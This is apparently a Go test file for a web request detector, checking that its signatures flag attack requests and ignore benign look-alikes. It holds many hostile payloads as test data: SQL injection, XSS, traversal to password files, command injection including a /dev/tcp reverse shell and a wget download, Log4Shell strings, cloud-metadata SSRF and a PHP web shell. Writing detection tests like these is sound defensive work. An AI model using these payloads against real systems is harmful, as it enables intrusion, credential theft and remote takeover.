package detect

import (
	"slices"
	"testing"

	"github.com/vigil-sec/vigil/internal/parse"
)

// sigCase is one request for the signature detector and what must (or must
// not) match.
type sigCase struct {
	name  string
	ev    *parse.Event
	class Class  // expected class of the first signature match; "" = none at all
	rule  string // a rule that must be among the matches (optional)
}

func runSigCases(t *testing.T, cases []sigCase) {
	t.Helper()
	cfg := DefaultContentConfig()
	cfg.UserAgent.Mode, cfg.Probe.Mode = ModeOff, ModeOff
	c := mustContent(t, cfg)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ms := c.Inspect(tc.ev, nil)
			if tc.class == "" {
				if len(ms) != 0 {
					t.Fatalf("benign request matched %v", rulesOf(ms))
				}
				return
			}
			if len(ms) == 0 {
				t.Fatalf("no match, want class %s", tc.class)
			}
			if ms[0].Class != tc.class || ms[0].Detector != DetectorSignature {
				t.Errorf("first match %s/%s (%s), want class %s; all %v", ms[0].Detector, ms[0].Rule, ms[0].Class, tc.class, rulesOf(ms))
			}
			if tc.rule != "" && !slices.Contains(rulesOf(ms), tc.rule) {
				t.Errorf("rules %v lack %s", rulesOf(ms), tc.rule)
			}
			for _, m := range ms {
				if m.Severity != SeverityCritical && m.Severity != SeverityError {
					t.Errorf("%s: severity %s", m.Rule, m.Severity)
				}
			}
		})
	}
}

func q(uri string) *parse.Event { return uriEvent(uri, browserUA) }

func ua(s string) *parse.Event {
	return &parse.Event{Method: []byte("GET"), Path: []byte("/"), UserAgent: []byte(s)}
}

func TestSignatureSQLi(t *testing.T) {
	runSigCases(t, []sigCase{
		{"tautology", q("/p?id=1'%20or%20'1'%3D'1"), ClassSQLi, "sqli-tautology"},
		{"short tautology", q("/p?id=1%20or%201%3D1"), ClassSQLi, "sqli-tautology"},
		{"double quotes", q(`/p?u=%22%20or%20%22%22%3D%22`), ClassSQLi, ""},
		{"comment terminator", q("/login?user=admin%27--"), ClassSQLi, "sqli-tautology"},
		{"union select comments", q("/p?id=-1/**/UnIoN/**/SeLeCt/**/1,2,3"), ClassSQLi, "sqli-union-select"},
		{"mysql versioned comment", q("/p?id=1%20/*!50000union*/%20/*!50000select*/%201,2"), ClassSQLi, "sqli-union-select"},
		{"time based", q("/p?id=1%20AND%20SLEEP(5)"), ClassSQLi, "sqli-time-based"},
		{"waitfor", q("/p?id=1;waitfor%20delay%20'0:0:5'--"), ClassSQLi, "sqli-time-based"},
		{"pg_sleep", q("/p?id=1%3Bselect%20pg_sleep(5)"), ClassSQLi, ""},
		{"benchmark", q("/p?id=benchmark(5000000,md5(1))"), ClassSQLi, "sqli-time-based"},
		{"stacked", q("/p?id=1%3B%20DROP%20TABLE%20users"), ClassSQLi, "sqli-stacked-query"},
		{"error based", q("/p?id=extractvalue(1,concat(0x7e,version()))"), ClassSQLi, "sqli-database-objects"},
		{"catalog", q("/p?id=1%20and%20(select%201%20from%20information_schema.tables)"), ClassSQLi, "sqli-database-objects"},
		{"double encoded", q("/p?id=%2527%2520or%25201%253D1--"), ClassSQLi, ""},
		{"nosql ne", q("/login?user[$ne]=x&pass[$ne]=y"), ClassSQLi, "sqli-nosql"},
		{"nosql json", q(`/api?q=%7B%22%24gt%22%3A%22%22%7D`), ClassSQLi, "sqli-nosql"},
		{"ldap", q("/u?name=*)(uid%3D*))(|(uid%3D*"), ClassSQLi, "sqli-ldap-filter"},
		{"in user agent", ua("Mozilla/5.0' or 1=1--"), ClassSQLi, ""},
		{"O'Brien", q("/search?q=O%27Brien"), "", ""},
		{"select a plan", q("/search?q=select+a+plan"), "", ""},
		{"union station", q("/search?q=union+station"), "", ""},
		{"1=1 bedroom", q("/search?q=1%3D1+bedroom"), "", ""},
		{"quoted words", q(`/search?q=%22NOT%22+STUFFER`), "", ""},
		{"percentages", q("/search?q=80%25+wool+and+20%25+cotton"), "", ""},
		{"postgrest select", q("/rest/v1/users?select=*&id=eq.5"), "", ""},
		{"odata filter", q("/odata/Products?$filter=Price%20gt%2020%20and%20Category%20eq%20'Books'"), "", ""},
	})
}

func TestSignatureXSS(t *testing.T) {
	runSigCases(t, []sigCase{
		{"script", q("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), ClassXSS, "xss-script-tag"},
		{"mixed case", q("/s?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E"), ClassXSS, "xss-script-tag"},
		{"event handler", q("/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), ClassXSS, "xss-event-handler"},
		{"attribute breakout", q("/s?q=%22%20onmouseover%3D%22alert(1)"), ClassXSS, "xss-event-handler"},
		{"javascript uri", q("/r?url=javascript:alert(document.cookie)"), ClassXSS, "xss-js-uri"},
		{"spaced javascript uri", q("/r?url=java%09script:alert(1)"), ClassXSS, "xss-js-uri"},
		{"entities", q("/s?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"), ClassXSS, "xss-script-tag"},
		{"numeric entities", q("/r?u=%26%23106%3Bavascript:alert(1)"), ClassXSS, "xss-js-uri"},
		{"%u escapes", q("/s?q=%u003Cscript%u003E"), ClassXSS, "xss-script-tag"},
		{"full-width brackets", q("/s?q=%EF%BC%9Cscript%EF%BC%9E"), ClassXSS, "xss-script-tag"},
		{"svg", q("/s?q=%3Csvg/onload%3Dalert%601%60%3E"), ClassXSS, ""},
		{"iframe", q("/s?q=%3Ciframe%20src%3Dhttps://evil.example%3E"), ClassXSS, "xss-dangerous-tag"},
		{"css expression", q("/s?q=%3Cdiv%20style%3D%22width:expression(alert(1))%22%3E"), ClassXSS, ""},
		{"utf-7", q("/s?q=%2BADw-script%2BAD4-"), ClassXSS, "xss-utf7"},
		{"in user agent", ua("Mozilla/5.0 <img src=x onerror=alert(1)>"), ClassXSS, ""},
		{"alert() in a question", q("/search?q=how+to+use+alert()+in+javascript"), "", ""},
		{"getElementById snippet", q("/search?q=document.getElementById(%27main%27)"), "", ""},
		{"heart", q("/search?q=%3C3+you"), "", ""},
		{"online param", q("/status?online=1&onboarding=true"), "", ""},
	})
}

func TestSignatureTraversal(t *testing.T) {
	runSigCases(t, []sigCase{
		{"dotdot", q("/d?file=../../../etc/passwd"), ClassTraversal, "traversal-dotdot"},
		{"encoded", q("/d?file=..%2F..%2F..%2Fetc%2Fshadow"), ClassTraversal, ""},
		{"double encoded", q("/d?file=%252e%252e%252f%252e%252e%252fboot.ini"), ClassTraversal, ""},
		{"overlong", q("/d?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"), ClassTraversal, ""},
		{"backslashes", q(`/d?file=..%5C..%5Cwindows%5Cwin.ini`), ClassTraversal, ""},
		{"in path", uriEvent("/static/..%2f..%2f..%2fetc/hosts", browserUA), ClassTraversal, ""},
		{"tomcat", uriEvent("/app/..;/..;/WEB-INF/web.xml", browserUA), ClassTraversal, ""},
		{"proc environ", q("/d?f=/proc/self/environ"), ClassTraversal, "lfi-sensitive-file"},
		{"absolute path", q("/d?f=/var/log/nginx/access.log"), ClassTraversal, ""},
		{"windows drive", q(`/d?f=C:%5CWindows%5Cwin.ini`), ClassTraversal, ""},
		{"php filter", q("/v?page=php://filter/convert.base64-encode/resource=index.php"), ClassTraversal, "lfi-php-wrapper"},
		{"data wrapper", q("/v?page=data://text/plain;base64,PD9waHA="), ClassTraversal, "lfi-php-wrapper"},
		{"base64 traversal", q("/v?f=Li4vLi4vLi4vZXRjL3Bhc3N3ZA%3D%3D"), ClassTraversal, "traversal-base64"},
		{"wp-config as value", q("/download?file=wp-config.php"), ClassTraversal, "lfi-sensitive-file-value"},
		{"relative next", q("/login?next=/account/settings"), "", ""},
		{"ellipsis", q("/search?q=wait...+what...+really..."), "", ""},
		{"dotted version", q("/download?v=1.2.3&file=release-1.2.3.tar.gz"), "", ""},
		{"image data uri", q("/og?img=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"), "", ""},
	})
}

func TestSignatureCmdi(t *testing.T) {
	runSigCases(t, []sigCase{
		{"semicolon", q("/ping?host=127.0.0.1%3Bid"), ClassCmdi, "cmdi-command-chain"},
		{"pipe", q("/ping?host=x%7Cwhoami"), ClassCmdi, "cmdi-command-chain"},
		{"and and", q("/ping?host=x%26%26cat%20/etc/passwd"), ClassCmdi, ""},
		{"backticks", q("/ping?host=%60id%60"), ClassCmdi, "cmdi-command-chain"},
		{"subshell", q("/ping?host=%24(whoami)"), ClassCmdi, "cmdi-command-chain"},
		{"newline", q("/ping?host=x%0Auname%20-a"), ClassCmdi, "cmdi-command-chain"},
		{"quote splitting", q("/ping?host=x%3Bc'a't%20/e't'c/hosts"), ClassCmdi, "cmdi-command-chain"},
		{"ifs", q("/ping?host=x%3Bcat%24%7BIFS%7D/etc/hosts"), ClassCmdi, "cmdi-command-chain"},
		{"reverse shell", q("/ping?host=x%3Bbash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261"), ClassCmdi, "cmdi-shell-redirect"},
		{"glob", q("/ping?host=x%3B/bin/c%3Ft%20/e%3Fc/p%3Fsswd"), ClassCmdi, ""},
		{"whole value", q("/tools?cmd=ls%20-la%20/"), ClassCmdi, "cmdi-command-value"},
		{"windows", q("/ping?host=x%26net%20user%20a%20b%20/add"), ClassCmdi, ""},
		{"batch for", q("/x?a=for%20/f%20%25i%20in%20(%27whoami%27)%20do%20echo%20%25i"), ClassCmdi, "cmdi-windows"},
		{"ssi", q("/x?a=%3C!--%23exec%20cmd%3D%22id%22--%3E"), ClassCmdi, "cmdi-ssi"},
		{"shellshock", ua("() { :; }; /bin/bash -c 'id'"), ClassCmdi, "shellshock"},
		{"smtp injection", q("/contact?subject=hi%0D%0ARCPT%20TO:%3Cx@evil.example%3E"), ClassCmdi, "cmdi-mail-injection"},
		{"user agent pipe", ua("Mozilla/5.0 | wget http://203.0.113.9/x -O /tmp/x"), ClassCmdi, "cmdi-command-ua"},
		{"salt & pepper", q("/search?q=salt+%26+pepper"), "", ""},
		{"AT&T", q("/search?q=AT%26T+plans"), "", ""},
		{"cat in a sentence", q("/search?q=the+cat+sat+on+the+mat"), "", ""},
		{"sleep advice", q("/search?q=sleep+8+hours"), "", ""},
		{"semicolon list", q("/search?q=Paris%3B+London%3B+Berlin"), "", ""},
		{"browser ua", ua(browserUA), "", ""},
		{"old ua with semicolons", ua("Mozilla/5.0 (Java; U; Id; UCBrowser8.2.0.132) UNTRUSTED/1.0"), "", ""},
		{"dir listing sort", q("/files/?C=N;O=A"), "", ""},
	})
}

func TestSignatureOther(t *testing.T) {
	runSigCases(t, []sigCase{
		{"log4shell", q("/s?q=%24%7Bjndi:ldap://x.example/a%7D"), ClassOther, "log4shell-jndi"},
		{"log4shell lower", q("/s?q=%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D"), ClassOther, "log4shell-jndi"},
		{"log4shell default values", q("/s?q=%24%7B%24%7B::-j%7D%24%7B::-n%7D%24%7B::-d%7D%24%7B::-i%7D:rmi://x/a%7D"), ClassOther, "log4shell-jndi"},
		{"log4shell ua", ua("${jndi:dns://x.example/a}"), ClassOther, "log4shell-jndi"},
		{"ssti arithmetic", q("/h?name=%7B%7B7*7%7D%7D"), ClassOther, "ssti-expression"},
		{"ssti dollar", q("/h?name=%24%7B7*7%7D"), ClassOther, "ssti-expression"},
		{"ssti erb", q("/h?name=%3C%25%3D%207*7%20%25%3E"), ClassOther, "ssti-expression"},
		{"spring el", q("/h?x=%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D"), ClassOther, ""},
		{"aws metadata", q("/f?url=http://169.254.169.254/latest/meta-data/"), ClassOther, "ssrf-cloud-metadata"},
		{"gcp metadata", q("/f?url=http://metadata.google.internal/computeMetadata/v1/"), ClassOther, "ssrf-cloud-metadata"},
		{"aws ipv6 metadata", q("/f?url=http://[fd00:ec2::254]/latest/"), ClassOther, "ssrf-cloud-metadata"},
		{"alibaba metadata", q("/f?url=http://100.100.100.200/"), ClassOther, "ssrf-cloud-metadata"},
		{"localhost", q("/f?url=http://localhost:8080/admin"), ClassOther, "ssrf-internal-url"},
		{"decimal ip", q("/f?url=http://2130706433/"), ClassOther, ""},
		{"gopher", q("/f?url=gopher://127.0.0.1:6379/_INFO"), ClassOther, ""},
		{"xxe", q("/x?d=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E"), ClassOther, "xxe-entity"},
		{"php tag", q("/u?name=%3C%3Fphp%20system($_GET['c'])%3B%20%3F%3E"), ClassOther, "php-open-tag"},
		{"php object", q(`/x?d=O:8:"stdClass":1:{s:1:"a";i:1;}`), ClassOther, "php-object-injection"},
		{"php call", q("/x?c=eval(base64_decode('cGhwaW5mbygpOw'))"), ClassOther, "php-function-call"},
		{"java serialized", q("/x?p=rO0ABXNyABFqYXZh"), ClassOther, "java-deserialization"},
		{"prototype pollution", q("/x?__proto__%5Badmin%5D=1"), ClassOther, "node-injection"},
		{"rfi", q("/x?page=http://evil.example/shell.txt%3F"), ClassOther, "rfi-remote-url"},
		{"redirect url", q("/out?url=https%3A%2F%2Fexample.org%2Fdocs%2Findex.php"), "", ""},
		{"image url", q("/img?src=https%3A%2F%2Fcdn.example.net%2Fa.png"), "", ""},
		{"next url", q("/login?next=https%3A%2F%2Fexample.com%2Fdash%3Ftab%3D1"), "", ""},
		{"graphql", q("/graphql?query=%7Buser(id%3A%221%22)%7Bname%2Cemail%7D%7D"), "", ""},
		{"json param", q(`/api?filter=%7B%22status%22%3A%22active%22%7D`), "", ""},
		{"function snippet", q("/search?q=function()+%7B+return+1%3B+%7D"), "", ""},
		{"python range", q("/search?q=%5Bx+for+x+in+range(10)%5D"), "", ""},
		{"template link", q("/view.php?file=%24%7Blinkto%7D"), "", ""},
	})
}

func TestSignatureOrderMostSpecificFirst(t *testing.T) {
	c := mustContent(t, DefaultContentConfig())
	// Matches both a specific rule and libinjection: the rule comes first.
	ms := c.Inspect(q("/p?id=1'%20or%20'1'%3D'1"), nil)
	rules := rulesOf(ms)
	i, j := slices.Index(rules, "sqli-tautology"), slices.Index(rules, "sqli-libinjection")
	if i < 0 || j < 0 || i > j {
		t.Errorf("order %v: want sqli-tautology before sqli-libinjection", rules)
	}
	// A rule reports once per request even when several fields match.
	ev := q("/p?a=%3Cscript%3E&b=%3Cscript%3E")
	ev.Referer = []byte("https://x.example/?q=%3Cscript%3E")
	n := 0
	for _, m := range c.Inspect(ev, nil) {
		if m.Rule == "xss-script-tag" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("xss-script-tag reported %d times, want 1", n)
	}
}
